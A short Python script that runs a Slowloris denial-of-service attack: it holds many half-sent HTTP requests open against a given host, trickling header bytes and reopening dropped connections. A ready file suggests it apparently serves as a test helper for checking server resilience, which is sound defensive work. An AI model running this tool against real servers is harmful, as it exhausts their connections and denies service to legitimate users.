#!/usr/bin/env python3
"""slowloris.py HOST PORT N READY_FILE: opens N connections that each send
half a request head and then one more header byte every second, forever
(until killed). Writes the number of connections it holds open to READY_FILE
once all were attempted, and keeps it up to date."""
import os
import socket
import sys
import time

host, port, n, ready = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]


def half_open():
    """A connection that sent half a request head, or None."""
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(b"GET /v1/targets HTTP/1.1\r\nHost: x\r\nX-a: ")
        return s
    except OSError:
        return None


socks = [s for s in (half_open() for i in range(n)) if s]


def report():
    with open(ready + ".tmp", "w") as f:
        f.write("%d\n" % len(socks))
    os.replace(ready + ".tmp", ready)


report()
while True:
    time.sleep(1)
    alive = []
    for s in socks:
        try:
            s.sendall(b"a")
            alive.append(s)
        except OSError:
            s.close()
    # the server dropped some: open new ones, as an attacker would
    while len(alive) < n:
        s = half_open()
        if not s:
            break
        alive.append(s)
    socks = alive
    report()
